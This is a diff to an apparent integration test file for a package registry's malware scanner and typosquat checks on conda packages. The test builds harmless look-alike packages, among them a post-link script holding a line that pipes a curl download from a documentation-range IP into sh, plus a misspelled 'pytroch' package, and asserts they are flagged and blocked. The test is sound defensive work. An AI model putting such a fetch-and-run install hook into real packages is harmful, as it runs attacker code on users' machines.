@@ -124,9 +124,7 @@ def _install(records: list[Any], prefix: Path) -> None:
     )
 
 
-def test_remove_and_yank_private_packages(
-    server: Server, channel: Channel, tmp_path: Path
-) -> None:
+def test_remove_and_yank_private_packages(server: Server, channel: Channel, tmp_path: Path) -> None:
     import threading
 
     import httpx
@@ -237,3 +235,108 @@ def test_remove_and_yank_private_packages(
     )
     refused = server.cli("conda", "yank", "-c", "cf", "lib-2.0-0.conda", check=False)
     assert refused.returncode != 0 and "mirror" in refused.stderr
+
+
+# -- 3. and 4. malware scans and typosquat checks of conda packages -----------------------------
+
+# Harmless look-alikes written by the test (never installed, never run): the shape of real
+# malware that the static scanner's rules match.
+POST_LINK = b"#!/bin/bash\ncurl -s http://203.0.113.7/x | sh\n"
+THREATS_POLICY = '[[rules]]\nkind = "threats"\nblock = ["malicious"]\n'
+
+
+def _hostile(out: Path) -> dict[str, Path]:
+    from tests.conda_builders import build_conda
+    from tests.integration.test_threats import EVIL_INIT
+
+    return {
+        # a module under site-packages that decodes and executes a download cradle
+        "evilmod": build_conda(
+            out, "colorkit", "1.0",
+            files={"site-packages/colorkit/__init__.py": EVIL_INIT.encode()},
+        ),
+        # a post-link script conda would run at install
+        "evilhook": build_conda(
+            out, "tidyhook", "1.0", fmt=".tar.bz2",
+            files={"bin/.tidyhook-post-link.sh": POST_LINK, "share/tidyhook/x.txt": b"x\n"},
+        ),
+        "benign": build_conda(
+            out, "colorkit", "0.9",
+            files={"site-packages/colorkit/__init__.py": b"def red():\n    return 'red'\n"},
+        ),
+        "squat": build_conda(out, "pytroch", "2.0"),  # swapped letters of pytorch
+    }  # fmt: skip
+
+
+def test_conda_packages_are_scanned_and_name_checked(server: Server, tmp_path: Path) -> None:
+    from tests.conda_builders import CondaUpstream, write_channel
+
+    pkgs = _hostile(tmp_path / "dist")
+    # stockade inspect reads conda files (nothing is run, nothing is extracted to disk)
+    res = server.cli("inspect", "--json", *(str(p) for p in pkgs.values()), check=False)
+    verdicts = {
+        Path(r["file"]).name: r["verdict"] for r in map(json.loads, res.stdout.splitlines())
+    }
+    assert res.returncode == 1
+    assert verdicts == {
+        "colorkit-1.0-0.conda": "malicious",
+        "tidyhook-1.0-0.tar.bz2": "malicious",
+        "colorkit-0.9-0.conda": "clean",
+        "pytroch-2.0-0.conda": "clean",
+    }
+    names = server.cli("names", "check", "--ecosystem", "conda", "pytroch", "numpy", check=False)
+    assert names.returncode == 1 and "pytorch" in names.stdout
+
+    policy = tmp_path / "threats.toml"
+    policy.write_text(THREATS_POLICY)
+    server.cli("conda", "channel", "create", "internal", "--private")
+    server.cli("policy", "set", "internal", "--file", str(policy))
+    server.cli("conda", "upload", "-c", "internal", *(str(p) for p in pkgs.values()))
+    up = CondaUpstream(write_channel(tmp_path / "channel", list(pkgs.values()), ("noarch",)))
+    try:
+        server.cli("conda", "channel", "create", "cf", "--mirror", up.url, "--subdirs", "noarch")
+        server.cli("policy", "set", "cf", "--file", str(policy))
+        token = server.token("*", "read")
+        with server.http(token) as c:
+            for name in ("internal", "cf"):
+                base = f"/conda/{name}/noarch"
+                listed = c.get(f"{base}/repodata.json").json()
+                served = set(listed["packages"]) | set(listed["packages.conda"])
+                # typosquats are known from the name alone: never listed
+                assert "pytroch-2.0-0.conda" not in served
+                r = c.get(f"{base}/pytroch-2.0-0.conda")
+                assert r.status_code == 403 and "typosquat" in r.text and "pytorch" in r.text
+                # uploads were scanned before their repodata was written; a mirror's file is
+                # scanned on its first fetch, which the verdict then blocks
+                if name == "internal":
+                    assert served == {"colorkit-0.9-0.conda"}
+                for fn, where in (
+                    ("colorkit-1.0-0.conda", "site-packages/colorkit/__init__.py"),
+                    ("tidyhook-1.0-0.tar.bz2", "bin/.tidyhook-post-link.sh"),
+                ):
+                    r = c.get(f"{base}/{fn}")
+                    assert r.status_code == 403, (name, fn, r.text)
+                    assert "malware-scanner" in r.text and where in r.text, r.text
+                assert c.get(f"{base}/colorkit-0.9-0.conda").status_code == 200
+                listed = c.get(f"{base}/repodata.json").json()
+                assert set(listed["packages"]) | set(listed["packages.conda"]) == {
+                    "colorkit-0.9-0.conda"
+                }
+                rows = _json(server, "policy", "explain", name, "colorkit")
+                by_file = {r["filename"]: r for r in rows}
+                bad = by_file["colorkit-1.0-0.conda"]
+                assert bad["allowed"] is False
+                assert any("malware-scanner" in b for b in bad["blocked_by"])
+                assert any("exec-decoded" in f for f in bad["data"]["findings"])
+                good = by_file["colorkit-0.9-0.conda"]
+                assert good["allowed"] is True and good["data"]["findings"] == []
+        url = _channel_url(server, "cf", token)
+        solved = _solve_install(url, ["colorkit"], tmp_path / "s", install=False)
+        assert _names(solved) == {"colorkit": "0.9"}  # the malicious 1.0 is never offered
+        with pytest.raises(Exception, match="tidyhook"):
+            _solve_install(url, ["tidyhook"], tmp_path / "t", install=False)
+    finally:
+        up.close()
+    findings = json.loads(server.cli("audit", "list", "--json", "--limit", "200").stdout)
+    flagged = {e["filename"] for e in findings if e["action"] == "threat.finding"}
+    assert {"colorkit-1.0-0.conda", "tidyhook-1.0-0.tar.bz2"} <= flagged
